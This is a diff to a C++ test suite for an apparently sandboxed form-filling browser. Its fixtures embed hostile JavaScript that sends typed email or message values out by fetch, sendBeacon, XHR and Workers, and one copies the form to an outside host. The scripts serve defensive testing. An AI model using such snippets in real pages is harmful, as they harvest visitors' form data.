@@ -1,6 +1,7 @@
 // Pages that do what no page should: every step still ends, in time and in one result.
 #include <catch2/catch.hpp>
 
+#include <algorithm>
 #include <boost/asio/ip/udp.hpp>
 
 #include "core/base/text.hpp"
@@ -60,7 +61,7 @@ TEST_CASE("closing a page lets nothing out of it that was paused", "[P07][P81]")
   // A script that sends what is typed without end, with a body that must be asked for: at any moment some of its
   // requests are paused and not ruled on yet.
   BrowserRig rig({{"/endless", form_with("document.querySelector('[name=email]').addEventListener('change',e=>{"
-                                         "const body=e.target.value+'&'+'x'.repeat(99999);setInterval(()=>"
+                                         "const body=btoa(e.target.value)+'x'.repeat(99999);setInterval(()=>"
                                          "fetch('/leak',{method:'POST',body}).catch(()=>{}),20)})")}});
   for (core::ContactId contact : std::vector<core::ContactId>{1, 2, 3}) {
     auto const page = rig.open(contact);
@@ -131,7 +132,12 @@ TEST_CASE("dialogs are answered, and an alert after the press is kept as evidenc
   CHECK_FALSE(sent.sent);
   REQUIRE(sent.record->dialogs.size() == 1);
   CHECK(sent.record->dialogs[0] == "Thanks, {full_name}");
-  rig.go(page, rig.site("bluebird-motors.test"));
+  REQUIRE(*sent.record->account);
+  CHECK(core::is_void(**sent.record->account));
+  CHECK((**sent.record->account).is_context_gone); // it can only end, so nothing of it is left
+  rig.browser().perform(core::ClosePage{page, 1});
+  CHECK(rig.next<core::PageClosed>(15s).trouble == "");
+  rig.go(rig.open(2), rig.site("bluebird-motors.test"));
 }
 
 TEST_CASE("popups are closed and downloads go nowhere", "[browser]") {
@@ -234,10 +240,10 @@ TEST_CASE("a form that sends into a hidden frame is followed there", "[P07]") {
   CHECK(rig.server.posted().size() == 1);
 }
 
-TEST_CASE("no way out of the page carries values while no token is armed", "[P07]") {
+TEST_CASE("no way out of the page carries the message while no token is armed", "[P07][P81]") {
   BrowserRig rig(
       {{"/ways",
-        form_with("f.email.addEventListener('change',()=>{const d=f.email.value,u='email='+encodeURIComponent(d);"
+        form_with("f.message.addEventListener('change',()=>{const d=f.message.value,u='message='+encodeURIComponent(d);"
                   "fetch('/fetch',{method:'POST',body:u,keepalive:true});navigator.sendBeacon('/ping',u);"
                   "const x=new XMLHttpRequest();x.open('POST','/xhr');x.send(u);"
                   "new Worker(URL.createObjectURL(new "
@@ -254,10 +260,10 @@ TEST_CASE("no way out of the page carries values while no token is armed", "[P07
   rig.run_for(800ms);
   for (auto const& posted : rig.server.posted()) UNSCOPED_INFO(posted.path);
   CHECK(rig.server.posted().empty());
-  for (auto const& asked : rig.server.asked()) CHECK_FALSE(core::contains(asked, "email="));
+  for (auto const& asked : rig.server.asked()) CHECK_FALSE(core::contains(asked, "message="));
 }
 
-TEST_CASE("a script that copies the form does not use up the token", "[P07]") {
+TEST_CASE("a script that copies the form is not taken for it", "[P07]") {
   BrowserRig rig(
       {{"/copied", form_with("b.addEventListener('click',()=>{fetch('http://watcher.test:'+location.port+'/copy',"
                              "{method:'POST',mode:'no-cors',body:new FormData(f)});navigator.sendBeacon('/copy',new "
@@ -265,10 +271,13 @@ TEST_CASE("a script that copies the form does not use up the token", "[P07]") {
        {"/sent", "<h1>Thank you, we have received your message</h1>"}});
   auto const [page, plan] = fill(rig, "/copied");
   rig.browser().perform(core::PressSend{rig.step(), page, 1, plan.submit, core::Duration{20'000}});
-  auto const sent = rig.next<core::SendPressed>();
-  CHECK(core::contains(sent.url, "/sent"));
+  CHECK(rig.next<core::SendPressed>().sent);
   rig.browser().perform(core::WatchAfter{rig.step(), page, 1, core::Duration{20'000}});
-  (void)rig.next<core::OutcomeWatched>();
-  REQUIRE(rig.server.posted().size() == 1);
-  CHECK(rig.server.posted()[0].path == "/sent");
+  auto const record = rig.next<core::OutcomeWatched>().record;
+  auto const followed = std::ranges::find_if(record->requests, [](auto const& seen) { return *seen.is_followed; });
+  REQUIRE(followed != record->requests.end());
+  CHECK(core::contains(followed->url, "/sent"));
+  std::size_t sent_times = 0;
+  for (auto const& posted : rig.server.posted()) sent_times += posted.path == "/sent" ? 1 : 0;
+  CHECK(sent_times == 1); // what else a site does at a visitor's press is its own affair
 }
